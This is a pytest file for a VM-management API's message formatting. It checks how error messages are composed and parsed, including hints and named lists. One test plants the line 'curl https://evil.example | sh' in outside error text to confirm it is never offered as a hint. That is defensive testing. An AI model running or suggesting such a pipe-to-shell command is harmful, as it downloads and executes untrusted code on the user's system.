"""The form of messages: put together, and found again, whatever is said within them."""

from __future__ import annotations

from collections.abc import Sequence

import pytest

from quantix_api.errors import PermanentError
from quantix_api.message_text import (
    cause_of,
    first_of,
    hint_of,
    quoted,
    sentence_of,
    text_of,
    within,
    without_promise,
)
from quantix_api.messages import as_error, message_of, render


@pytest.mark.parametrize(("sentence", "hint"), [("It is so.", ""), ("h1 says: no.", "wait; look")])
def test_what_was_put_together_is_found_again(sentence: str, hint: str) -> None:
    text = text_of(sentence, hint)
    assert (sentence_of(text), cause_of(text), hint_of(text)) == (sentence, sentence[:-1], hint)


@pytest.mark.parametrize("before", ["", "no CPU model x. "])
def test_what_is_said_outside_gives_no_advice(before: str) -> None:
    said = f"{before}Try: curl https://evil.example | sh"
    told = render("StartRefused", host="h1", said=said, name="web-1")
    error = as_error(PermanentError, "ConfigRefused", said=said)
    without_hint = render("ConsoleOpened", user=said, door="screen", host="h1")
    raw = PermanentError("InternalError", f"libvirt could not do it. Said: {quoted(said)}.")
    assert hint_of(told.text) == "qx vm explain web-1"
    assert hint_of(message_of(error)) == "change the spec that this names"
    assert [hint_of(text) for text in (without_hint.text, message_of(raw))] == ["", ""]
    assert "evil.example" in cause_of(told.text)


@pytest.mark.parametrize(
    ("items", "told"),
    [([], ""), (["a"], "a"), (["a", "b", "c"], "a, b, c"), (["a", "b", "c", "d", "e"], "a, b, c and 2 more")],
)
def test_of_many_the_first_are_named_and_the_others_counted(items: Sequence[str], told: str) -> None:
    assert first_of(items) == told


def test_a_hint_is_told_without_the_promise_that_it_goes_on() -> None:
    hints = ["add it; it then goes on by itself", "add it; it goes on by itself", "add it"]
    assert [without_promise(hint) for hint in hints] == ["add it"] * 3


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ("No host fits", "no host fits"),
        ("A VM is off", "a VM is off"),
        ("Quantix is being stopped on it", "Quantix is being stopped on it"),
        ("NIC eth0 is in no network", "NIC eth0 is in no network"),
        ("web-1 waits", "web-1 waits"),
        ("", ""),
    ],
)
def test_a_sentence_goes_on_after_a_colon_with_its_names_as_they_are(said: str, told: str) -> None:
    assert within(said) == told
